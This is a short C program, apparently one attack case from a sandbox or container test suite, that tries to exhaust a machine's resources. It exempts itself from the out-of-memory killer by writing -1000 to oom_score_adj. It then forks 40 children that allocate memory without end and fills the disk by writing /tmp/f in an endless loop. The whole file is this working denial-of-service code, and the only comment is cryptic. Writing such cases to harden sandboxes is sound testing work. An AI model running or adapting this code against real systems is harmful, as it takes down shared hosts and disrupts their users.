/* Memory is full of files, and no process of ours is big: the killer must not find the box's first process bigger. */
#include "../attack.h"
int main(void)
{
    static char block[1 << 16];
    int score = open("/proc/self/oom_score_adj", O_WRONLY); if (score >= 0) write(score, "-1000", 5);
    for (int i = 0; i < 40; i++) if (fork() == 0) { sleep(1); for (;;) { char *p = malloc(4096); if (p) *p = 1; } }
    int fd = open("/tmp/f", O_WRONLY | O_CREAT, 0600);
    for (;;) write(fd, block, sizeof block);
}
